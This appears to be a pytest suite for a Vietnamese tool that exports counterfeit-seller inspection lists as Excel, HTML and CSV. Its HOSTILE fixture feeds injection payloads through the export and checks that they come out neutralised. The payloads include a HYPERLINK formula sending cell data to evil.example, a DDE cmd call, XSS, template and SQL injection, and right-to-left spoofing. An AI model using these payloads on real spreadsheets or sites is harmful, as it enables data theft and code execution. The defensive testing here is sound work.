"""The workbook: what is printed and signed, filled in and sent back; and the same list for everybody who opens it elsewhere."""

from __future__ import annotations

import csv
import html.parser
import re
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.reports.changes_sheet import NOTHING_BEFORE
from pipeline.reports.page import write_page
from pipeline.reports.results_sheet import GIVEN, LIST_COLUMNS, N_PRINTED, PLANNER_CHOICES, RESULT_CHOICES, RESULT_COLUMNS
from pipeline.reports.safe_text import dead_link, live_link
from pipeline.reports.sheet_styles import PAGE_POINTS, printed_points
from pipeline.reports.target_row import main_reason, other_reasons
from pipeline.reports.text_width import cut_list, cut_sentence, cut_to_lines, n_lines
from pipeline.reports.wording import DRAFT, NOT_EXPLAINABLE
from pipeline.reports.workbook import write_workbook
from pipeline.stages.report import write_csv, write_plans
from pipeline.stages.run import RunReport
from pipeline.tables.targets import CHOSEN, WAITING
from tests.invented_targets import PLACES, SUMMARY, invented

SHEETS = ["Danh sách", "Kết quả", "Tin đăng", "Thay đổi so với tuần trước", "Hướng dẫn"]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Giày Nike rep 1:1")',
    "+cmd|' /C calc'!A0 Giày Nike rep 1:1",
    "@SUM(1+1)*cmd Giày Adidas rep 1:1",
    "-2+3+cmd Túi Gucci super fake",
    "<script>alert(1)</script> Giày Nike rep 1:1",
    '"><img src=x onerror=alert(1)> Túi Dior super fake',
    "{{ 7*7 }} {% raw %} Giày Nike rep 1:1",
    "\u202egnp.exe Giày Nike rep 1:1",
    "'; DROP TABLE listings; -- Giày Nike rep 1:1",
    "Giày Nike rep 1:1 " + "dài " * 9000,
    "Giày Nike\x07\x1b[31m rep 1:1",
    "\n\n\nGiày\r\n rep 1:1",
]


@pytest.fixture(scope="module")
def plans(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("plans")
    targets, listings = invented()
    left = pd.DataFrame([{"code": "AG-2647-004-B", "authority": PLACES[0][1], "change": "Ra khỏi danh sách", "change_why": "Tin đã bị gỡ"}])
    write_plans(folder, targets, listings, SUMMARY, left=left)
    return folder


@pytest.fixture(scope="module")
def book(plans: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(plans / "AG.xlsx")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A list where shop, title and place are what somebody might try."""
    folder = tmp_path_factory.mktemp("hostile")
    targets, listings = invented(len(HOSTILE), PLACES[:1])
    targets = targets.assign(seller_name=HOSTILE, location=[text[:60] for text in HOSTILE], standing=CHOSEN)
    targets["reasons"] = [[f"Tiêu đề ghi “{text}”"] for text in HOSTILE]
    titles = dict(zip(targets["code"], HOSTILE, strict=True))
    listings = listings.assign(title=listings["code"].map(titles), listing_id=listings["code"].map(titles).str[:50])
    write_workbook(folder / "plan.xlsx", targets, listings, SUMMARY)
    write_page(folder / "index.html", targets, listings, SUMMARY)
    write_csv(folder / "targets.csv", targets)
    return folder


def rows_of(book: openpyxl.Workbook, sheet: str, first: str) -> list[dict[str, Any]]:
    """The table whose header begins with ``first``, as dicts by heading."""
    rows = [[cell.value for cell in row] for row in book[sheet].iter_rows()]
    header = next(number for number, row in enumerate(rows) if row[0] == first)
    return [dict(zip(rows[header], row, strict=True)) for row in rows[header + 1 :] if row[0] is not None]


def cells(path: Path) -> list[str]:
    return [str(cell.value) for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row if cell.value is not None]


# The list


def test_each_authority_gets_its_own_rows_in_five_sheets(plans: Path) -> None:
    assert sorted(path.name for path in plans.iterdir()) == ["AG.html", "AG.xlsx", "HCM.html", "HCM.xlsx", "TW.html", "TW.xlsx"]
    for code in ("AG", "HCM", "TW"):
        book = openpyxl.load_workbook(plans / f"{code}.xlsx")
        assert book.sheetnames == SHEETS
        codes = [str(row["STT và mã dòng"]).split("\n")[1] for row in rows_of(book, "Danh sách", "STT và mã dòng")]
        assert len(codes) == 25 and all(one.startswith(f"{code}-2648-") for one in codes)


def test_what_an_earlier_run_left_of_other_authorities_is_removed(tmp_path: Path) -> None:
    write_plans(tmp_path, *invented(2), SUMMARY)
    write_plans(tmp_path, *invented(2, PLACES[:1]), SUMMARY)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["AG.html", "AG.xlsx"]


def test_nine_columns_are_printed_on_a4_without_being_shrunk(book: openpyxl.Workbook) -> None:
    sheet = book["Danh sách"]
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 9
    assert sheet.print_area.split(":")[0].endswith("$A$1") and sheet.print_area.split(":")[1].startswith("$I$")
    assert [one.heading for one in LIST_COLUMNS[:N_PRINTED]] == [
        "STT và mã dòng", "Gian hàng, sàn", "Mặt hàng, nhãn hiệu", "Dấu hiệu cần xác minh", "Lý do chính (trích nguyên văn)",
        "Nơi gửi hàng hiển thị (độ tin cậy)", "Số tin có dấu hiệu/đã thu thập", "Đề xuất", "Ý kiến người rà soát",
    ]  # fmt: skip
    assert printed_points([one.width for one in LIST_COLUMNS[:N_PRINTED]]) <= PAGE_POINTS
    assert printed_points([one.width for one in RESULT_COLUMNS]) <= PAGE_POINTS
    assert sheet.print_title_rows and sheet.freeze_panes and sheet.auto_filter.ref


def test_no_letter_is_below_ten_points_or_in_another_type(book: openpyxl.Workbook) -> None:
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "Times New Roman" and cell.font.sz >= 10, (sheet.title, cell.coordinate)
        assert "&10" in sheet.oddFooter.left.text + str(sheet.oddFooter.left.size) or sheet.oddFooter.left.size >= 10
        assert "Trang &P/&N" in sheet.oddFooter.right.text.replace("Page", "P") or "Trang" in sheet.oddFooter.right.text


def test_the_whole_disclaimer_stands_at_the_foot_of_every_printed_page(book: openpyxl.Workbook) -> None:
    for sheet in book:
        foot = sheet.oddFooter.left.text
        assert "Không phải kết luận vi phạm, không thay thế quyết định kiểm tra." in foot and "người có thẩm quyền cho phép." in foot


def test_those_that_wait_are_on_the_screen_and_not_on_paper(book: openpyxl.Workbook) -> None:
    rows = rows_of(book, "Danh sách", "STT và mã dòng")
    standings = [row["Diện"] for row in rows]
    assert standings == ["Chính thức"] * 10 + ["Dự bị"] * 10 + ["Chuyển cơ quan khác"] + [WAITING] * 4
    last = int(book["Danh sách"].print_area.rsplit("$", 1)[1])
    assert book["Danh sách"].cell(last, 1).value.startswith("25 · Chuyển cơ quan khác")


def test_every_printed_row_keeps_to_three_lines(book: openpyxl.Workbook) -> None:
    for row in rows_of(book, "Danh sách", "STT và mã dòng"):
        if row["Diện"] == "Chính thức":
            assert all(n_lines(str(row[one.heading] or ""), one.width) <= 3 for one in LIST_COLUMNS[:N_PRINTED]), row


def test_a_list_is_a_draft_until_somebodys_name_and_day_stand_on_it(tmp_path: Path, book: openpyxl.Workbook) -> None:
    assert book["Danh sách"]["A2"].value == DRAFT
    # On the screen the word fades once both cells are filled, without a formula in any cell.
    (rule,) = [rule for rules in book["Danh sách"].conditional_formatting for rule in rules.rules]
    assert rule.formula == ['AND($E$2<>"",$H$2<>"")'] and not book["Danh sách"]["E2"].protection.locked
    told = SUMMARY | {"list_name": "Danh sách số 48/2026, bản 2", "approver": "Người duyệt thử", "approved_on": "2026-11-24"}
    write_workbook(tmp_path / "a.xlsx", *invented(2), told)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx")["Danh sách"]
    assert (sheet["A2"].value, sheet["E2"].value, sheet["H2"].value) == ("Danh sách số 48/2026, bản 2", "Người duyệt thử", "24/11/2026")
    assert DRAFT not in cells(tmp_path / "a.xlsx")


def test_only_registered_platforms_get_live_links(book: openpyxl.Workbook) -> None:
    column = next(number for number, one in enumerate(LIST_COLUMNS, start=1) if one.key == "link")
    found = [row[column - 1] for row in book["Danh sách"].iter_rows() if row[column - 1].value not in (None, "Trang gian hàng")]
    live = {cell.hyperlink.target for cell in found if cell.hyperlink}
    dead = {cell.value for cell in found if not cell.hyperlink}
    assert live == {"https://shopee.vn/shop/1"} and dead == {"Mở trên sàn\nhxxps://cua-hang-mau.example/gian-hang/1"}


def test_links_go_only_to_known_sites() -> None:
    assert live_link("https://shopee.vn/shop/12") and live_link("https://www.lazada.vn/x")
    for address in (
        "http://shopee.vn/x", "https://shopee.vn.evil.example/x", "https://user@shopee.vn/x", "javascript:alert(1)", "https://facebook.com/x",
        "https://evil.example/shopee.vn", "https://shopee.vn:8443/x", 'https://shopee.vn/"x', None, 5,
    ):  # fmt: skip
        assert live_link(address) is None, address
    assert dead_link("HTTPS://evil.example") == "hxxpS://evil.example"


# What comes back


def test_only_codes_are_locked_and_typing_over_one_is_refused(book: openpyxl.Workbook) -> None:
    for name, first in (("Danh sách", "STT và mã dòng"), ("Kết quả", "Mã dòng")):
        sheet = book[name]
        header = next(row[0].row for row in sheet.iter_rows() if row[0].value == first)
        locked = {cell.column for row in sheet.iter_rows(min_row=header + 1) for cell in row if cell.value is not None and cell.protection.locked}
        assert locked == {1}
        # Excel sorts no protected sheet that holds a locked cell.
        assert not sheet.protection.sheet and sheet.auto_filter.ref
        refusing = [one for one in sheet.data_validations.dataValidation if one.type == "custom"]
        assert [(one.formula1, one.errorStyle) for one in refusing] == [("FALSE", None)] or refusing[0].errorStyle in (None, "stop")
        assert str(refusing[0].sqref).startswith(f"A{header + 1}:A")


def test_drop_downs_offer_the_words_of_the_guide(book: openpyxl.Workbook) -> None:
    def words(name: str) -> list[str]:
        (where,) = book.defined_names[name].destinations
        return [row[0].value for row in book[where[0]][where[1].replace("$", "")]]

    assert words("KET_QUA") == list(RESULT_CHOICES) and words("Y_KIEN") == list(PLANNER_CHOICES) and words("CO_KHONG") == ["Có", "Không"]
    offered = {one.formula1 for name in ("Danh sách", "Kết quả") for one in book[name].data_validations.dataValidation if one.type == "list"}
    assert offered == {"KET_QUA", "Y_KIEN", "CO_KHONG"}


def test_the_result_sheet_asks_for_every_target_that_somebody_was_given(book: openpyxl.Workbook) -> None:
    rows = rows_of(book, "Kết quả", "Mã dòng")
    assert list(rows[0]) == [one.heading for one in RESULT_COLUMNS]
    given = [row for row in rows_of(book, "Danh sách", "STT và mã dòng") if row["Diện"] in GIVEN]
    assert [row["Mã dòng"] for row in rows] == [str(row["STT và mã dòng"]).split("\n")[1] for row in given] and len(rows) == 21
    assert all(row[one.heading] is None for row in rows for one in RESULT_COLUMNS if one.filled_by_person)


def test_changes_name_who_came_who_moved_and_who_left(book: openpyxl.Workbook, tmp_path: Path) -> None:
    rows = rows_of(book, SHEETS[3], "Mã dòng tuần này")
    assert len(rows) == 22 and rows[1]["Hạng trước"] == "5" and rows[1]["Hạng này"] == "2" and rows[1]["Vì sao"] == "Có thêm 2 tin mang dấu hiệu"
    assert rows[-1]["Mã dòng danh sách trước"] == "AG-2647-004-B" and rows[-1]["Vì sao"] == "Tin đã bị gỡ"
    write_workbook(tmp_path / "a.xlsx", invented(2)[0].drop(columns=["change", "change_why"]), invented(2)[1], SUMMARY)
    assert openpyxl.load_workbook(tmp_path / "a.xlsx")[SHEETS[3]]["A2"].value == NOTHING_BEFORE


def test_at_most_twenty_listings_a_target_are_shown(tmp_path: Path) -> None:
    targets, listings = invented(1, PLACES[:1])
    many = pd.concat([listings.head(1)] * 30, ignore_index=True)
    write_workbook(tmp_path / "a.xlsx", targets, many, SUMMARY)
    assert len(rows_of(openpyxl.load_workbook(tmp_path / "a.xlsx"), "Tin đăng", "Mã dòng")) == 20


def test_the_same_list_is_the_same_file(tmp_path: Path) -> None:
    for name in ("a", "b"):
        write_plans(tmp_path / name, *invented(3), SUMMARY)
    for path in sorted((tmp_path / "a").iterdir()):
        assert path.read_bytes() == (tmp_path / "b" / path.name).read_bytes(), path.name


def test_an_empty_list_still_opens_and_says_so(tmp_path: Path) -> None:
    targets, listings = invented(1)
    write_workbook(tmp_path / "a.xlsx", targets.iloc[:0], listings.iloc[:0], SUMMARY)
    assert "Không có đối tượng nào đủ dấu hiệu." in cells(tmp_path / "a.xlsx")


# Reasons


def test_reasons_quote_the_sellers_own_words(demo: RunReport) -> None:
    quoted = 0
    for row in demo.plan.listings.itertuples():
        for mark in row.highlights:
            if mark["field"] == "title":
                words = row.title[mark["start"] : mark["end"]]
                assert any(f"“{words}”" in reason for reason in row.reasons), (words, row.reasons)
                quoted += 1
    assert quoted > 5


def test_a_target_without_a_sentence_is_marked_as_not_explainable() -> None:
    targets, _ = invented(1, PLACES[:1])
    silent = targets.assign(main_reason=pd.Series([None], dtype="str"), explainable=False)
    assert main_reason(next(silent.itertuples())) == NOT_EXPLAINABLE
    (spoken,) = targets.itertuples()
    assert main_reason(spoken).startswith("Tiêu đề ghi “rep 1:1”") and main_reason(spoken) not in other_reasons(spoken)


# Where lines break


@given(st.text(max_size=300), st.integers(6, 60), st.integers(1, 4))
def test_cut_text_fits_and_is_the_beginning_of_the_text(text: str, width: int, most: int) -> None:
    cut = cut_to_lines(text, width, most)
    assert n_lines(cut, width) <= most or len(text) == 0
    assert cut == text or text.startswith(cut.removesuffix("…"))


@pytest.mark.parametrize("width", [13, 20, 33, 60])
@pytest.mark.parametrize("most", [2, 3])
def test_what_is_not_verified_stays_marked_however_short_it_is_cut(width: int, most: int) -> None:
    reason = "Giá 294.000 đ, bằng khoảng 16 % mức thấp nhất của hàng chính hãng Chanel cùng loại (tham khảo từ 1.800.000 đ, chưa kiểm chứng)"
    reason += " (và 1 tin khác)"
    cut = cut_sentence(reason, width, most)
    assert "chưa kiểm chứng" in cut and n_lines(cut, width) <= most and cut.startswith("Giá 294.000 đ"[: len(cut) - 20])


def test_sentences_that_do_not_fit_are_left_out_whole() -> None:
    assert cut_list(["một hai", "ba bốn"], 30, 2) == "• một hai\n• ba bốn"
    assert cut_list(["một hai", "ba bốn", "năm sáu"], 30, 2) == "• một hai\n…"


# What sellers write


def test_no_cell_of_the_workbook_is_a_formula(hostile: Path) -> None:
    with zipfile.ZipFile(hostile / "plan.xlsx") as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 5 and not any("<f>" in text or "<f " in text for text in sheets)
    assert len(rows_of(openpyxl.load_workbook(hostile / "plan.xlsx"), "Danh sách", "STT và mã dòng")) == len(HOSTILE)


def test_no_csv_cell_starts_like_a_formula_and_every_target_has_one_line(hostile: Path) -> None:
    with (hostile / "targets.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert len(rows) == len(HOSTILE) + 1
    numbers = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r|%" and cell and not numbers.fullmatch(cell)]


class _Page(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def test_the_page_runs_only_its_own_script_and_asks_the_network_for_nothing(hostile: Path) -> None:
    text = (hostile / "index.html").read_text(encoding="utf-8")
    page = _Page()
    page.feed(text)
    assert page.scripts == 1 and "<img" not in text and "{{" not in text.replace("{{ 7*7 }}", "")
    assert not [name for _, name, _ in page.attributes if name.startswith("on")]
    assert not [value for _, name, value in page.attributes if name in {"src", "srcset", "action"} and value]
    assert "default-src 'none'" in text and "sha256-" in text


def test_control_and_direction_characters_reach_no_output(hostile: Path) -> None:
    unseen = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]")
    assert not unseen.search((hostile / "index.html").read_text(encoding="utf-8"))
    assert not any(unseen.search(cell) for cell in cells(hostile / "plan.xlsx"))
    assert not unseen.search((hostile / "targets.csv").read_text(encoding="utf-8-sig"))


# Opened elsewhere


@pytest.mark.libreoffice
@pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftotext") is None, reason="LibreOffice or pdftotext is not installed")
def test_libreoffice_prints_ten_targets_on_the_first_page_and_the_header_on_the_second(tmp_path: Path) -> None:
    """With banners, long names and long reasons, where a page is fullest."""
    told = SUMMARY | {"is_old": True, "as_of": date(2026, 11, 23).isoformat()}
    long = "Cửa hàng bán lẻ và bán buôn giày dép túi xách thời trang nam nữ cao cấp chi nhánh số "
    write_workbook(tmp_path / "AG.xlsx", *invented(25, PLACES[:1], shop=long), told)
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "AG.xlsx")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    read = ["pdftotext", "-l", "3", "-layout", str(tmp_path / "AG.pdf"), "-"]
    pages = subprocess.run(read, check=True, capture_output=True).stdout.decode().split("\f")
    on_page = [[int(found) for found in re.findall(r"AG-2648-(\d{3})-[A-Z]", text)] for text in pages]
    assert on_page[0] == list(range(1, 11)) and on_page[1] == [*range(11, 21), 25]
    assert "STT và mã dòng" in pages[1] and "Trang 2/" in pages[1] and "KẾT QUẢ" in pages[2]
    assert "DỮ LIỆU CŨ – CHỈ DÙNG ĐỂ THỬ NGHIỆM" in pages[0]
